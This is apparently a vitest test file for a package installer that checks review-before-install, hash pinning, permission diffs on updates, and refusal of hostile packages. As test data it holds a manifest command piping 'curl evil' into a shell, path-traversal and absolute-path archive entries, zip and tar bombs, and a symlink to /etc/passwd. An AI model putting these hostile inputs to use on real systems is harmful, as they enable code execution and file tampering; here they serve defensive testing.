import { chmodSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { type ArchiveFile, writeTarGz, writeZip } from "@capstan/core/internal";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import {
  flooding,
  hanging,
  printing,
  tamperedWheel,
  tarBomb,
  zipBomb,
  zipWithLink,
} from "../../../../tools/packages/hostile-packages.ts";
import { LoopbackRegistry } from "../../../../tools/packages/loopback-registry.ts";
import { answerOf, filesIn, packageHostIn, value } from "../../../../tools/packages/package-host.ts";
import {
  demoManifest,
  file,
  testTarball,
  testWheel,
  writeNodeProject,
  writePythonProject,
} from "../../../../tools/packages/test-packages.ts";
import { type FreshStore, freshPglite } from "../../../../tools/stores-under-test.ts";
import { type Database, openDatabase } from "../db/database.ts";
import type { PackageHost } from "./create-package-host.ts";
import type { InstallOptions } from "./installer.ts";
import { nodeCodec } from "./node-codec.ts";
import type { PackageStore } from "./package-store.ts";
import { packageStore } from "./package-store.ts";

let store: FreshStore;
let database: Database;
let packages: PackageStore;
let host: PackageHost;
let home: string;
const user = "dev@example.com";

beforeAll(async () => {
  store = await freshPglite();
  chmodSync(store.dataDir, 0o755); // accessible to others, so that as root the packages run as another user
  const opened = await openDatabase(store);
  if (!opened.ok) throw new Error(opened.failure.message);
  database = opened.value;
  packages = packageStore(database);
});
afterAll(async () => {
  await database.close();
  await store.drop();
});
beforeEach(async () => {
  home = join(store.dataDir, `host-${Math.random().toString(36).slice(2)}`);
  mkdirSync(home, { recursive: true });
  host = await packageHostIn(packages, home);
});
afterEach(async () => {
  for (const { name } of await packages.list()) await packages.remove(name);
  rmSync(home, { recursive: true, force: true });
});

const KINDS = [
  { kind: "wheel", build: testWheel, fileName: "aech_cli_demo-0.1.0-py3-none-any.whl" },
  { kind: "npm", build: testTarball, fileName: "aech-cli-demo-0.1.0.tgz" },
] as const;

describe.each(KINDS)("a package of the kind $kind", ({ kind, build, fileName }) => {
  const source = (change = {}) => ({ source: fileName, bytes: build(change) });
  const install = (change = {}, options: Partial<InstallOptions> = { accept: true }) =>
    host.installer.install(source(change), { user, ...options });

  test("is reviewed before it is installed, and the review is the response", async () => {
    const review = value(await host.installer.review(source()));
    expect(review).toMatchObject({
      name: "aech-cli-demo",
      version: "0.1.0",
      kind,
      role: "cli",
      capability: "demo",
      scopes: ["Demo.Use", "Demo.Write"],
      commands: ["aech-cli-demo"],
      tools: [
        { name: "demo_echo", scopes: [] },
        { name: "demo_write", scopes: ["Demo.Write"] },
      ],
      origin: fileName,
      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      size_bytes: build().length,
      must_run_code: false,
      not_isolated: expect.arrayContaining([expect.stringMatching(/network/)]),
    });
    expect(await install({}, {})).toMatchObject({
      failure: { code: "package_review_needed", details: { sha256: review.sha256 } },
    });
    expect(filesIn(home)).toEqual([]);
  });

  test("is installed by the reviewed hash, runs, and is pinned", async () => {
    const { sha256 } = value(await host.installer.review(source()));
    const { record } = value(await install({}, { accept: sha256 }));
    expect(await answerOf(host, record, ["echo", "--loud", "--json", "hello"])).toMatchObject({
      text: "HELLO",
    });
    expect(lock()).toEqual({
      lockfile_version: 1,
      packages: { "aech-cli-demo": { kind, version: "0.1.0", sha256, origin: fileName } },
    });
  });

  test("is not installed by another hash", async () => {
    expect(await install({}, { accept: "0".repeat(64) })).toMatchObject({
      failure: { code: "package_review_needed" },
    });
    expect(await packages.list()).toEqual([]);
  });

  test("leaves nothing behind when uninstalled", async () => {
    value(await install());
    value(await host.installer.uninstall("aech-cli-demo"));
    expect(filesIn(home)).toEqual(["capstan.lock"]);
    expect(lock().packages).toEqual({});
    expect(await packages.list()).toEqual([]);
    const { rows } = await database.pool.query("select count(*)::int as n from package_archives");
    expect(rows).toEqual([{ n: 0 }]);
  });

  test("is unpacked by hash on a machine that did not install it", async () => {
    const { record } = value(await install());
    const elsewhere = join(home, "elsewhere");
    const other = await packageHostIn(packages, elsewhere);
    expect(await answerOf(other, record, ["echo", "there"])).toMatchObject({ text: "there" });
  });

  test("must run code to describe itself when it has no manifest, and only with consent", async () => {
    const described = { manifest: undefined, code: printing(kind, JSON.stringify(demoManifest)) };
    expect(value(await host.installer.review(source(described)))).toMatchObject({
      must_run_code: true,
      tools: [],
    });
    expect(await install(described)).toMatchObject({ failure: { code: "package_must_run_code" } });
    expect(filesIn(home)).toEqual([]);
    const review = value(await host.installer.review(source(described), { runToDescribe: true }));
    expect(review).toMatchObject({
      must_run_code: false,
      capability: "demo",
      tools: [{ name: "demo_echo" }, { name: "demo_write" }],
    });
    expect(filesIn(home)).toEqual([]);
    expect(
      value(await install(described, { accept: review.sha256, runToDescribe: true })).record.description
        .capability,
    ).toBe("demo");
  });

  test.each([
    ["hangs", hanging, /timed out after/],
    ["floods", flooding, /printed more than/],
    ["prints no JSON", (of: "wheel" | "npm") => printing(of, "usage: demo"), /no JSON/],
    [
      "describes a shell",
      (of: "wheel" | "npm") => printing(of, JSON.stringify({ ...demoManifest, command: "sh -c id" })),
      /command/,
    ],
    [
      "describes a command of the system",
      (of: "wheel" | "npm") => printing(of, JSON.stringify({ ...demoManifest, command: "aech-cli-other" })),
      /no command "aech-cli-other"/,
    ],
  ])("whose --help %s is refused, and nothing is left on disk", async (_, code, message) => {
    const hostile = { manifest: undefined, code: code(kind) };
    const refused = await install(hostile, { accept: true, runToDescribe: true });
    expect(refused.ok ? "" : refused.failure.message).toMatch(message);
    expect(filesIn(home)).toEqual([]);
    expect(await packages.list()).toEqual([]);
  });

  test.each([
    [
      "a shell in command",
      { manifest: { ...demoManifest, command: "sh -c 'curl evil | sh'" } },
      "manifest_invalid",
    ],
    [
      "a command it does not contain",
      { manifest: { ...demoManifest, command: "aech-cli-git" } },
      "package_command_missing",
    ],
    ["a name outside the rules", { name: "left-pad" }, "package_name_invalid"],
  ])("with %s is refused, and nothing is left on disk", async (_, change, code) => {
    expect(await install(change)).toMatchObject({ failure: { code } });
    expect(filesIn(home)).toEqual([]);
  });

  test("is updated with a permission diff, and requires consent when rights grow", async () => {
    const first = value(await install()).record;
    const [echo, write] = demoManifest.actions as [object, object];
    const more = {
      version: "0.2.0",
      manifest: { ...demoManifest, actions: [echo, write, { ...write, name: "purge" }] },
    };
    const refused = await install(more, {});
    expect(refused).toMatchObject({
      failure: {
        code: "package_review_needed",
        details: { update: { from_version: "0.1.0", permissions: { grows: true, actionsAdded: ["purge"] } } },
      },
    });
    expect(await packages.get("aech-cli-demo")).toEqual(first);
    const { record } = value(await install(more));
    expect(record.version).toBe("0.2.0");
    expect(readdirSync(join(home, "packages")).filter((name) => name.startsWith(first.sha256))).toEqual([]);
  });

  test("shows the accounts it uses, and an update that newly uses one requires consent", async () => {
    value(await install());
    const connections = [{ provider: "google", scopes: ["mail"] }];
    const manifest = { ...demoManifest, connections };
    expect(await install({ version: "0.2.0", manifest }, {})).toMatchObject({
      ok: false,
      failure: {
        details: { connections, update: { permissions: { grows: true, connectionsAdded: connections } } },
      },
    });
  });

  test("is updated without asking when rights do not grow", async () => {
    value(await install());
    const { record } = value(await install({ version: "0.1.1" }, {}));
    expect(record.version).toBe("0.1.1");
    expect(lock().packages["aech-cli-demo"]?.version).toBe("0.1.1");
  });

  test("is refused when the same version has different bytes", async () => {
    value(await install());
    const changed = await install({ manifest: { ...demoManifest, description: "Something else" } });
    expect(changed).toMatchObject({ failure: { code: "package_hash_changed" } });
    value(await host.installer.uninstall("aech-cli-demo"));
    writeFileSync(
      join(home, "capstan.lock"),
      JSON.stringify({
        lockfile_version: 1,
        packages: { "aech-cli-demo": { kind, version: "0.1.0", sha256: "0".repeat(64), origin: "x" } },
      }),
    );
    expect(await install()).toMatchObject({ failure: { code: "package_hash_changed" } });
  });

  test("is refused when another package has its capability", async () => {
    const taken = await packageHostIn(packages, home, () => "the built-in of that name");
    expect(await taken.installer.install(source(), { user, accept: true })).toMatchObject({
      failure: { code: "package_conflict" },
    });
    expect(filesIn(home)).toEqual([]);
  });

  test("dropped into capabilities/clis waits for review until it is installed", async () => {
    const folder = join(home, "capabilities", "clis");
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, fileName), build());
    const [waiting] = await host.waiting();
    expect(waiting).toMatchObject({ path: join(folder, fileName), review: { name: "aech-cli-demo" } });
    value(await host.installer.install({ source: waiting?.path ?? "" }, { user, accept: true }));
    expect(await host.waiting()).toEqual([]);
  });
});

describe("hostile archives", () => {
  const evil = (path: string): ArchiveFile[] => [file(path, "x"), file("package/package.json", "{}")];
  test.each([
    ["a wheel with a path outside the folder", "x.whl", () => writeZip(evil("../../evil.py"), nodeCodec)],
    [
      "a tarball with a path outside the folder",
      "x.tgz",
      () => writeTarGz(evil("package/../../evil.js"), nodeCodec),
    ],
    ["a tarball with an absolute path", "x.tgz", () => writeTarGz(evil("/etc/evil"), nodeCodec)],
    ["a wheel with a link", "x.whl", zipWithLink],
    ["a wheel that is a zip bomb of 1 GB", "x.whl", () => zipBomb(1024 ** 3)],
    ["a wheel that is a zip bomb with a false size", "x.whl", () => zipBomb(1000)],
    ["a tarball that is a zip bomb of 1 GB", "x.tgz", tarBomb],
    ["bytes that are not an archive", "x.whl", () => new Uint8Array(5000)],
    ["a wheel whose file differs from its record", "x.whl", tamperedWheel],
  ])("%s is refused, and nothing is left on disk", async (_, source, bytes) => {
    const outside = filesIn(dirname(home)).length;
    const refused = await host.installer.install(
      { source, bytes: bytes() },
      { user, accept: true, runToDescribe: true },
    );
    expect(refused).toMatchObject({ ok: false, failure: { code: "archive_refused" } });
    expect(filesIn(home)).toEqual([]);
    expect(filesIn(dirname(home)).length).toBe(outside);
  });

  test("a folder with a link to the outside is refused", async () => {
    const folder = join(home, "project");
    mkdirSync(folder);
    writeFileSync(join(folder, "package.json"), JSON.stringify({ name: "aech-cli-demo", version: "1.0.0" }));
    symlinkSync("/etc/passwd", join(folder, "passwd"));
    expect(await host.installer.review({ source: folder })).toMatchObject({
      failure: { code: "archive_refused" },
    });
  });
});

describe("dependencies", () => {
  test("of a wheel come from capabilities/clis without an index", async () => {
    const folder = join(home, "capabilities", "clis");
    mkdirSync(folder, { recursive: true });
    const helper = testWheel({
      name: "demo-helper",
      version: "2.0.0",
      manifest: undefined,
      code: "WORD = 'helped'\n",
    });
    writeFileSync(join(folder, "demo_helper-2.0.0-py3-none-any.whl"), helper);
    const code =
      "import json, demo_helper.main\ndef cli(): print(json.dumps({'word': demo_helper.main.WORD}))\n";
    const { record } = value(
      await host.installer.install(
        { source: "x.whl", bytes: testWheel({ code, dependencies: ["demo-helper>=1"] }) },
        { user, accept: true },
      ),
    );
    expect(record.dependency_lock).toContain("demo-helper==2.0.0");
    expect(await answerOf(host, record, [])).toEqual({ word: "helped" });
  });

  test("of a wheel that cannot be found give a clear refusal and leave nothing behind", async () => {
    const offline = await packageHostIn(packages, home, () => undefined, {
      PIP_INDEX_URL: "http://127.0.0.1:9/",
      PIP_RETRIES: "0",
    });
    const refused = await offline.installer.install(
      { source: "x.whl", bytes: testWheel({ dependencies: ["no-such-package-anywhere"] }) },
      { user, accept: true },
    );
    expect(refused).toMatchObject({
      failure: {
        code: "package_dependencies_missing",
        nextStep: expect.stringMatching(/capabilities\/clis/),
      },
    });
    expect(filesIn(home)).toEqual([]);
  });

  test("of an npm package come from the registry, and no script runs unless allowed", async () => {
    const registry = await LoopbackRegistry.start();
    const postinstall = "node -e \"require('fs').writeFileSync('ran','')\"";
    registry.publish({
      name: "helper",
      json: { type: "module", main: "index.js", scripts: { postinstall } },
      files: { "index.js": "export const word = 'helped';" },
    });
    const env = {
      npm_config_registry: registry.url,
      npm_config_cache: join(home, "cache"),
      npm_config_userconfig: "/dev/null",
    };
    const own = await packageHostIn(packages, home, () => undefined, env);
    const code =
      'import { word } from "helper"; import { existsSync } from "node:fs"; console.log(JSON.stringify({ word, ran: existsSync(new URL("../node_modules/helper/ran", import.meta.url)) }));';
    const bytes = testTarball({ code, dependencies: ["helper@^1.0.0"] });
    const { record } = value(await own.installer.install({ source: "x.tgz", bytes }, { user, accept: true }));
    expect(await answerOf(own, record, [])).toEqual({ word: "helped", ran: false });
    expect(JSON.parse(record.dependency_lock ?? "{}").packages["node_modules/helper"].version).toBe("1.0.0");
    expect(await own.installer.review({ source: "helper@1.0.0" })).toMatchObject({
      failure: { code: "package_name_invalid" },
    });
    registry.close();
  });
});

test("a data folder closed to others does not change how packages are isolated", async () => {
  chmodSync(home, 0o700);
  const closed = await packageHostIn(packages, home);
  expect(closed.isolation).toEqual(host.isolation);
});

test("a machine without Python is reported", async () => {
  const own = await packageHostIn(packages, home, () => undefined, { PATH: join(home, "empty") });
  expect(
    await own.installer.install({ source: "x.whl", bytes: testWheel() }, { user, accept: true }),
  ).toMatchObject({ failure: { code: "python_missing", nextStep: expect.stringMatching(/python3-venv/) } });
  expect(filesIn(home)).toEqual([]);
});

test("a folder is packed first: a Python project, a Node project, and a service with its command in cli/", async () => {
  const python = join(home, "aech-rt-demo", "cli");
  writePythonProject(python);
  const service = join(home, "aech-rt-demo");
  writeFileSync(join(service, "docker-compose.yml"), "services: {}\n");
  expect(value(await host.installer.review({ source: python }))).toMatchObject({
    kind: "wheel",
    capability: "demo",
  });
  expect(
    value(await host.installer.install({ source: service }, { user, accept: true })).record,
  ).toMatchObject({ service_folder: service, kind: "wheel" });
  const node = join(home, "node-project");
  writeNodeProject(node);
  expect(value(await host.installer.review({ source: node }))).toMatchObject({
    kind: "npm",
    capability: "other",
  });
});

test.each(["/no/such/path.whl", "Not A Thing!", "../nowhere"])(
  "nothing installable is found in %s",
  async (source) => {
    const refused = await host.installer.review({ source });
    expect(refused).toMatchObject({
      ok: false,
      failure: { code: expect.stringMatching(/package_source_unknown/) },
    });
  },
);

const lock = (): { packages: Record<string, { version: string }> } =>
  JSON.parse(readFileSync(join(home, "capstan.lock"), "utf8"));
